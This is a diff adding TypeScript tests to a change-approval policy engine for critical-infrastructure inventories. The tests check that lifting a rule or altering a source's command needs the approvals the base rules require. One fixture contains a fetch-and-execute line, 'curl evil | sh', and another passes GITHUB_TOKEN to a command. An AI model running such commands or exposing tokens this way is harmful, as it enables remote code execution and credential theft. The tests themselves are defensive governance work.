@@ -16,6 +16,9 @@ import {
 import { parsePolicyText } from "../../../../src/core/review/policy/file/parse-policy.ts";
 import type { ApprovalFact } from "../../../../src/core/review/policy/policy-model.ts";
 import { recordedGovernanceOf } from "../../../../src/core/review/policy/recorded-subjects.ts";
+import { sourceCommandsOf } from "../../../../src/core/sources/source-commands.ts";
+import { evaluateQuestions, questionsOf } from "../../../../src/core/review/policy/judge-policy.ts";
+import { COMMAND_SOURCES_FILE as SOURCES } from "../../../support/source-repository.ts";
 
 const POLICY = `version: 1
 rules:
@@ -30,7 +33,11 @@ const HIGH = alpha("impact: high\nowners: [alice, bob]\n");
 const LOW =
   "cyber_system: Bravo Relays\nfacility: Substation Bravo\nimpact: low\nowners: [carol]\nassets: {}\n";
 
-const FILES = { policy: "cip-policy.yaml", review: "cip-002-review.yaml" };
+const FILES = {
+  policy: "cip-policy.yaml",
+  review: "cip-002-review.yaml",
+  sources: "cip-sources.yaml",
+};
 
 function sources(
   files: Record<string, string>,
@@ -124,12 +131,24 @@ describe("the policy governs its own inputs", () => {
       sources({ "inventory/alpha.yaml": HIGH, "inventory/bravo.yaml": LOW }, "version: 1\n"),
       ["mallory"],
       false,
-      ['rule "policy-change" is unmet: 1 more approval needed from alice and bob'],
+      [
+        'rule "policy-change" is unmet: 1 more approval needed from alice and bob',
+        'rule "rule-lifted" is unmet: 2 more approvals needed from the owners of "Protection System"',
+      ],
     ],
     [
-      "the policy is cut down, approved by an owner it protects",
+      "the policy is cut down, approved by one owner it protects: the rule it lifts asks two",
       sources({ "inventory/alpha.yaml": HIGH, "inventory/bravo.yaml": LOW }, "version: 1\n"),
       ["bob"],
+      false,
+      [
+        'rule "rule-lifted" is unmet: 1 more approval needed from the owners of "Protection System"',
+      ],
+    ],
+    [
+      "the policy is cut down, approved by the two owners the rule it lifts asks",
+      sources({ "inventory/alpha.yaml": HIGH, "inventory/bravo.yaml": LOW }, "version: 1\n"),
+      ["alice", "bob"],
       true,
       [],
     ],
@@ -200,6 +219,12 @@ describe("the policy governs its own inputs", () => {
     const head = sources({ "inventory/alpha.yaml": HIGH }, "version: 1\n");
     expect(judge(base, head, ["alice"]).evaluation.verdict.allowed).toBe(false);
     expect(judge(base, head, ["acme-csm"]).evaluation.verdict).toEqual({
+      allowed: false,
+      reasons: [
+        'rule "rule-lifted" is unmet: 2 more approvals needed from the owners of "Protection System"',
+      ],
+    });
+    expect(judge(base, head, ["acme-csm", "alice", "bob"]).evaluation.verdict).toEqual({
       allowed: true,
       reasons: [],
     });
@@ -659,5 +684,275 @@ rules:
     expect(changes).toMatchObject([
       { kind: "baseline", base: { owners: [{ login: "alice" }, { login: "bob" }] } },
     ]);
+  });
+});
+
+describe("a rule removed or weakened needs the approvals the rule itself requires", () => {
+  // TUF's delegated roles: the policy owners hold the rules, but lifting one takes the approvals
+  // it asks of a change it covers, judged at the base, besides the policy owners'.
+  const TWO_RULES = `version: 1
+policy_owners: { approvals: 1, from: [polly] }
+rules:
+  - id: high-impact-deletes
+    when: { operations: [delete], impact: [high] }
+    require: { approvals: 2, from: owners }
+  - id: low-changes
+    when: { impact: [low] }
+    require: { approvals: 1, from: [acme/security] }
+`;
+  const RULE_BASE = sources(
+    { "inventory/alpha.yaml": HIGH, "inventory/bravo.yaml": LOW },
+    TWO_RULES,
+  );
+  const withPolicy = (text: string | undefined): RuleSources => ({
+    ...sources({ "inventory/alpha.yaml": HIGH, "inventory/bravo.yaml": LOW }),
+    policyText: text,
+  });
+  const edited = (from: string, to: string) => withPolicy(TWO_RULES.replace(from, to));
+  const HIGH_LIFTED =
+    'rule "rule-lifted" is unmet: 2 more approvals needed from the owners of "Protection System"';
+  const LOW_LIFTED = 'rule "rule-lifted" is unmet: 1 more approval needed from acme/security';
+
+  it.each<[string, RuleSources, string[], string[]]>([
+    [
+      "the two-owner rule removed, approved by the policy owner alone",
+      edited(
+        "  - id: high-impact-deletes\n    when: { operations: [delete], impact: [high] }\n    require: { approvals: 2, from: owners }\n",
+        "",
+      ),
+      ["polly"],
+      [HIGH_LIFTED],
+    ],
+    [
+      "the two-owner rule removed, with one owner too",
+      edited("  - id: high-impact-deletes\n", "  - id: renamed-deletes\n"),
+      ["polly", "alice"],
+      [
+        'rule "rule-lifted" is unmet: 1 more approval needed from the owners of "Protection System"',
+      ],
+    ],
+    [
+      "its approvals lowered",
+      edited("approvals: 2, from: owners", "approvals: 1, from: owners"),
+      ["polly"],
+      [HIGH_LIFTED],
+    ],
+    [
+      "its operations moved",
+      edited("operations: [delete]", "operations: [create]"),
+      ["polly"],
+      [HIGH_LIFTED],
+    ],
+    [
+      "its impact moved",
+      edited("impact: [high] }", "impact: [medium] }"),
+      ["polly"],
+      [HIGH_LIFTED],
+    ],
+    [
+      "its approvers changed",
+      edited("approvals: 2, from: owners", "approvals: 2, from: [polly, mallory]"),
+      ["polly"],
+      [HIGH_LIFTED],
+    ],
+    [
+      "a named approver's rule removed",
+      edited("from: [acme/security]", "from: [mallory]"),
+      ["polly"],
+      [LOW_LIFTED],
+    ],
+    [
+      "the file deleted: every rule is lifted",
+      withPolicy(undefined),
+      ["polly"],
+      [HIGH_LIFTED, LOW_LIFTED],
+    ],
+    [
+      "the file no longer parses: every rule is lifted",
+      withPolicy(`${TWO_RULES}rules: []\n`),
+      ["polly"],
+      [HIGH_LIFTED, LOW_LIFTED],
+    ],
+    [
+      "the file deleted, approved by every rule's approvers and the policy owner",
+      withPolicy(undefined),
+      ["polly", "alice", "bob", "sam"],
+      [],
+    ],
+    [
+      "its approvals raised: not lifted",
+      edited("approvals: 2, from: owners", "approvals: 3, from: owners"),
+      ["polly"],
+      [],
+    ],
+    [
+      "its operations widened: not lifted",
+      edited("operations: [delete]", "operations: [delete, update]"),
+      ["polly"],
+      [],
+    ],
+    [
+      "its impact widened: not lifted",
+      edited("when: { operations: [delete], impact: [high] }", "when: { operations: [delete] }"),
+      ["polly"],
+      [],
+    ],
+    [
+      "a rule added: not lifted",
+      withPolicy(
+        `${TWO_RULES}  - id: more\n    when: { impact: [medium] }\n    require: { approvals: 1, from: owners }\n`,
+      ),
+      ["polly"],
+      [],
+    ],
+  ])("%s", (_case, head, approvers, reasons) => {
+    const memberships = approvers.map((login) => ({
+      team: "acme/security",
+      login,
+      membership: { state: login === "sam" ? ("member" as const) : ("not-member" as const) },
+    }));
+    const { policy } = parsePolicyText(TWO_RULES, "cip-policy.yaml");
+    const changes = governanceChanges(RULE_BASE, head, FILES);
+    const verdict = evaluatePolicy(policy!, {
+      operations: [],
+      baseSystems: new Map(),
+      approvals: approvers.map(approval),
+      memberships,
+      now: 0,
+      governance: governanceRequirements(policy!, changes, RULE_BASE),
+    }).verdict;
+    expect(verdict).toEqual({ allowed: reasons.length === 0, reasons });
+  });
+
+  it("names each lifted rule, and a review event judges the recorded ids again at the base", () => {
+    const head = edited("approvals: 2, from: owners", "approvals: 1, from: owners");
+    const changes = governanceChanges(RULE_BASE, head, FILES);
+    expect(changes).toEqual([
+      { kind: "policy", file: "cip-policy.yaml", lifted: ["high-impact-deletes"] },
+    ]);
+    const { policy } = parsePolicyText(TWO_RULES, "cip-policy.yaml");
+    const recorded = withRecordedGovernance([], recordGovernance(changes), RULE_BASE);
+    expect(governanceRequirements(policy!, recorded, RULE_BASE)).toEqual(
+      governanceRequirements(policy!, changes, RULE_BASE),
+    );
+    expect(governanceRequirements(policy!, changes, RULE_BASE)[1]).toMatchObject({
+      id: "rule-lifted",
+      governs: 'the base rule "high-impact-deletes", which cip-policy.yaml removes or weakens',
+    });
+  });
+});
+
+describe("a source's command is a change to the rules, by the policy owners at the base", () => {
+  const withSources = (text: string | undefined): RuleSources => ({
+    ...sources({ "inventory/alpha.yaml": HIGH, "inventory/bravo.yaml": LOW }),
+    sourceCommands: sourceCommandsOf(text, "cip-sources.yaml"),
+  });
+  const SOURCED = withSources(SOURCES);
+  const UNMET = 'rule "source-command-change" is unmet: 1 more approval needed from alice and bob';
+
+  it.each<[string, string | undefined, string[], string[]]>([
+    [
+      "its program changed, approved by a non-owner",
+      SOURCES.replace("node,", "bash,"),
+      ["mallory"],
+      [UNMET],
+    ],
+    [
+      "its program changed, approved by a policy owner",
+      SOURCES.replace("node,", "bash,"),
+      ["bob"],
+      [],
+    ],
+    [
+      "a variable of the run's environment passed to it",
+      SOURCES.replace("    out:", "    env: [GITHUB_TOKEN]\n    out:"),
+      ["mallory"],
+      [UNMET],
+    ],
+    [
+      "a command source added",
+      `${SOURCES}  - name: more\n    kind: command\n    run: [sh, -c, "curl evil | sh"]\n    systems: [Echo]\n    out: inventory/more/\n`,
+      ["mallory"],
+      [UNMET],
+    ],
+    ["the file removed", undefined, ["mallory"], [UNMET]],
+    ["the file broken", `${SOURCES}sources: []\n`, ["mallory"], [UNMET]],
+    [
+      "where it writes changed: not its command",
+      SOURCES.replace("inventory/discovery/", "inventory/found/"),
+      ["mallory"],
+      [],
+    ],
+  ])("%s", (_case, headText, approvers, reasons) => {
+    const { policy } = parsePolicyText(POLICY, "cip-policy.yaml");
+    const changes = governanceChanges(SOURCED, withSources(headText), FILES);
+    const verdict = evaluatePolicy(policy!, {
+      operations: [],
+      baseSystems: new Map(),
+      approvals: approvers.map(approval),
+      memberships: [],
+      now: 0,
+      governance: governanceRequirements(policy!, changes, SOURCED),
+    }).verdict;
+    expect(verdict).toEqual({ allowed: reasons.length === 0, reasons });
+  });
+
+  it("words the change, and a review event judges what the comment recorded", () => {
+    const changes = governanceChanges(
+      SOURCED,
+      withSources(SOURCES.replace("node,", "bash,")),
+      FILES,
+    );
+    expect(changes).toEqual([
+      {
+        kind: "source-commands",
+        file: "cip-sources.yaml",
+        changes: [
+          'source "discovery": run ["node","scripts/export-assets.mjs"] with env [] -> run ["bash","scripts/export-assets.mjs"] with env []',
+        ],
+      },
+    ]);
+    const recorded = recordedGovernanceOf(
+      JSON.parse(JSON.stringify({ governance: recordGovernance(changes) })),
+    );
+    expect(withRecordedGovernance([], recorded!, SOURCED)).toEqual(changes);
+  });
+});
+
+describe("the team memberships asked for when the rules themselves change", () => {
+  // No operation touches the system, so only the change to the rules names its owning team: the
+  // questions must ask for its members, or the change is judged without them (issue 51).
+  const TEAM_OWNED = sources({
+    "inventory/alpha.yaml": alpha("impact: high\nowners: [acme/protection]\n"),
+  });
+  const HANDED = sources({ "inventory/alpha.yaml": alpha("impact: high\nowners: [mallory]\n") });
+  const { policy } = parsePolicyText(POLICY, "cip-policy.yaml");
+  const questions = questionsOf(
+    policy!,
+    { atBase: TEAM_OWNED, head: HANDED, files: FILES },
+    [],
+    [approval("carol"), approval("dan")],
+  );
+  const member = (login: string) => ({
+    team: "acme/protection",
+    login,
+    membership: { state: "member" as const },
+  });
+
+  it("asks for the base owners' team of a system whose owners change, with the approvers", () => {
+    expect(questions.teams).toEqual(["acme/protection"]);
+    expect(questions.logins).toEqual(["carol", "dan"]);
+  });
+
+  it.each<[string, ReturnType<typeof member>[], boolean]>([
+    ["both approvers members of the base owners' team", [member("carol"), member("dan")], true],
+    ["the memberships not read", [], false],
+  ])("judges the hand-over with %s", (_case, memberships, allowed) => {
+    const verdict = evaluateQuestions(questions, [], {
+      approvals: [approval("carol"), approval("dan")],
+      memberships,
+      now: 0,
+    }).verdict;
+    expect(verdict.allowed).toBe(allowed);
   });
 });
